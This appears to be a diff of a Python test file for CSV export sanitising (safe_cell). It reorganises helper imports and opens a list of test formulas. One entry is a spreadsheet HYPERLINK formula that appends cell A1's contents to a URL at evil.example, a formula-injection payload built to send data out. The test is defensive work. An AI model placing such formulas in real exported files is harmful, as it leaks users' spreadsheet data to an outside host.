@@ -12,8 +12,8 @@ from app.core.actor import Actor
 from app.core.csv_text import safe_cell
 from app.extensions import db
 from app.listing import blocklist
-from tests.admin_helpers import signed_in
-from tests.conftest import T0
+from tests.helpers import T0
+from tests.helpers_admin import signed_in
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
